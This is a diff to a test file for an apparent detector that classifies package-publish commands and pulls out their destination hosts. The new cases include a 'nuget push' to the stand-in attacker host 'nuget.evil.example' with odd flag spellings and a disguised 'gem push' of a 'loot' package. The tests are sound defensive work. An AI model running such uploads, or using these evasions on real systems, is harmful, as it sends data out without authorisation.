@@ -49,6 +49,7 @@ describe('push-tool table', () => {
     expect(push('/usr/bin/ruby', '-I lib -r bundler/setup /usr/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
     expect(push('/usr/bin/node', '--require /app/trace.js /usr/local/bin/npm publish')).toEqual(['npm', false]);
     expect(push('/usr/bin/python3', '-W ignore /usr/local/bin/twine upload dist/x.tgz')).toEqual(['twine', false]);
+    expect(push('/usr/bin/ruby', '-p /usr/local/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]); // a loop flag
     // Ordinary scripts, and the interpreters' own downloads, are not pushes.
     expect(push('/usr/local/bin/node', '/app/server.js --port 8080')).toBeNull();
     expect(push('/usr/local/bin/node', '/usr/local/bin/npm run build')).toBeNull();
@@ -109,7 +110,19 @@ describe('push-tool table', () => {
       ['/usr/local/bin/cargo', 'publish', 'crates.io', null],
       ['/usr/bin/twine', 'upload -r corp dist/x.tgz', null, 'dist/x.tgz'],
       ['/usr/bin/dotnet', 'nuget push x.nupkg --source github -k k', null, 'x.nupkg'],
-      ['/usr/bin/dotnet', 'nuget push x.nupkg --source nuget.org', 'nuget.org', 'x.nupkg'],
+      // Dotted or not, a name is a name: `nuget.org` is NuGet's default source's name, not its host.
+      ['/usr/bin/dotnet', 'nuget push x.nupkg --source nuget.org', null, 'x.nupkg'],
+      ['/usr/bin/twine', 'upload -r upload.pypi.org dist/x.tgz', null, 'dist/x.tgz'],
+      ['/usr/bin/uv', 'publish --index corp', null, null],
+      [
+        '/usr/bin/nuget',
+        'push x.nupkg -SOurce https://nuget.evil.example/v3/index.json',
+        'nuget.evil.example',
+        'x.nupkg',
+      ],
+      ['/usr/bin/nuget', 'push x.nupkg -so https://nuget.evil.example/v3/index.json', 'nuget.evil.example', 'x.nupkg'],
+      // A host flag's value is the host, with or without a dot.
+      ['/usr/bin/gh', 'api --hostname ghe -X POST repos/a/b/issues', 'ghe', 'repos/a/b/issues'],
       ['/usr/bin/nuget', 'push x.nupkg', 'api.nuget.org', 'x.nupkg'],
       [
         '/usr/bin/svn',
